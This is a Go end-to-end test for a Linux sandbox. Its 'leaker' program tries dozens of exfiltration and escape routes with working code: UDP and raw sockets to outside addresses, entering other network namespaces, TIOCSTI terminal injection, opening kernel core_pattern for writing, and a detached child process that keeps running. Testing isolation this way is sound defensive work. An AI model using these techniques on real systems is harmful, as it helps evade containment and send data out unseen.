//go:build linux

package e2e

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// leakMark is in all that the leaker sends.
const leakMark = "CEPA-LEAK-MARK"

// attempt is one way out that the leaker tries. It returns an error when it knows that it failed.
type attempt struct {
	name string
	try  func() error
}

// playLeaker is a hostile program: it tries all ways out that it knows, and says which it believes to have worked.
// Arguments: the abstract and the path name of a Unix socket that somebody outside listens on.
func playLeaker(args []string) error {
	for _, a := range leaks(args[0], args[1]) {
		done := make(chan error, 1)
		go func() { runtime.LockOSThread(); done <- a.try() }() // and never unlocks: it may leave its namespace
		select {
		case err := <-done:
			if err != nil {
				fmt.Printf("blocked %s: %v\n", a.name, err)
			} else {
				fmt.Printf("sent %s\n", a.name)
			}
		case <-time.After(20 * time.Second):
			fmt.Printf("blocked %s: no end\n", a.name)
		}
	}
	return nil
}

func sendTo(family, kind, protocol int, to unix.Sockaddr) func() error {
	return func() error {
		fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1)
		return unix.Sendto(fd, []byte("\x08\x00"+leakMark), 0, to)
	}
}

func leaks(abstract, path string) []attempt {
	v4 := func(a string, port int) *unix.SockaddrInet4 {
		return &unix.SockaddrInet4{Addr: [4]byte(net.ParseIP(a).To4()), Port: port}
	}
	v6 := func(a string, port int) *unix.SockaddrInet6 {
		return &unix.SockaddrInet6{Addr: [16]byte(net.ParseIP(a).To16()), Port: port}
	}
	dial := func(network, address string) func() error {
		return func() error {
			c, err := net.DialTimeout(network, address, 3*time.Second)
			if err != nil {
				return err
			}
			defer c.Close()
			_, err = c.Write([]byte(leakMark))
			return err
		}
	}
	return []attempt{
		{"UDP", sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, v4(cableOuter, 9))},
		{"UDP far away", sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, v4("192.0.2.9", 443))},
		{"DNS to a fixed server", sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, v4(cableOuter, 53))},
		{"broadcast", sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, v4("255.255.255.255", 67))},
		{"multicast", sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, v4("224.0.0.251", 5353))},
		{"IPv6 UDP", sendTo(unix.AF_INET6, unix.SOCK_DGRAM, 0, v6(cableOuter6, 9))},
		{"IPv6 multicast", sendTo(unix.AF_INET6, unix.SOCK_DGRAM, 0, v6("ff02::1", 9))},
		{"raw ICMP", sendTo(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, v4(cableOuter, 0))},
		{"raw IP", sendTo(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, v4(cableOuter, 0))},
		{"ping socket", sendTo(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP, v4(cableOuter, 0))},
		{"SCTP", sendTo(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP, v4(cableOuter, 9))},
		{"UDP-Lite", sendTo(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE, v4(cableOuter, 9))},
		{"packet socket", func() error {
			fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			return unix.Sendto(fd, []byte(leakMark), 0, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: 2})
		}},
		{"vsock", func() error { _, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0); return err }},
		{"Bluetooth", func() error { _, err := unix.Socket(unix.AF_BLUETOOTH, unix.SOCK_RAW, 1); return err }},
		{"abstract Unix socket", dial("unix", "@"+abstract)},
		{"Unix socket", dial("unix", path)},
		{"datagram of a socket pair", func() error {
			pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			return unix.Sendto(pair[0], []byte(leakMark), 0, &unix.SockaddrUnix{Name: path + ".d"})
		}},
		{"inherited descriptors", func() error {
			err := fmt.Errorf("none takes a datagram")
			for fd := 3; fd < 256; fd++ {
				if kind, e := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_TYPE); e == nil && kind == unix.SOCK_DGRAM {
					if _, e := unix.Write(fd, []byte(leakMark)); e == nil {
						err = nil
					}
				}
			}
			return err
		}},
		{"namespaces of others", func() error {
			mine, _ := os.Readlink("/proc/thread-self/ns/net")
			paths, _ := filepath.Glob("/proc/[0-9]*/ns/net")
			more, _ := filepath.Glob("/run/netns/*")
			for _, p := range append(paths, more...) {
				if its, err := os.Readlink(p); err == nil && its == mine {
					continue
				}
				fd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC, 0)
				if err != nil || unix.Setns(fd, unix.CLONE_NEWNET) != nil {
					continue
				}
				return sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, v4(cableOuter, 9))()
			}
			return fmt.Errorf("none of %d can be entered", len(paths)+len(more))
		}},
		{"io_uring", func() error {
			var parameters [120]byte
			fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&parameters)), 0)
			if errno != 0 {
				return errno
			}
			return unix.Close(int(fd))
		}},
		{"the kernel's resolver of keys", func() error {
			_, err := unix.RequestKey("dns_resolver", "leak.example", "", unix.KEY_SPEC_PROCESS_KEYRING)
			return err
		}},
		{"routes of its own", func() error {
			out, err := exec.Command("/sbin/ip", "link", "add", "type", "dummy").CombinedOutput()
			if err != nil {
				return fmt.Errorf("%w: %.40q", err, out)
			}
			return nil
		}},
		{"the terminal's input", func() error {
			c := byte('x')
			_, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
			if errno != 0 {
				return errno
			}
			return nil
		}},
		{"the kernel's settings", func() error { // opened only: alone, the leaker would change the machine
			f, err := os.OpenFile("/proc/sys/kernel/core_pattern", os.O_WRONLY, 0)
			if err != nil {
				return err
			}
			return f.Close()
		}},
		{"a child that stays", func() error {
			cmd := exec.Command("sh", "-c", "while :; do sleep 0.2; done", "stayer"+strconv.Itoa(os.Getpid()), path)
			cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
			if err := cmd.Start(); err != nil {
				return err
			}
			return cmd.Process.Release()
		}},
	}
}
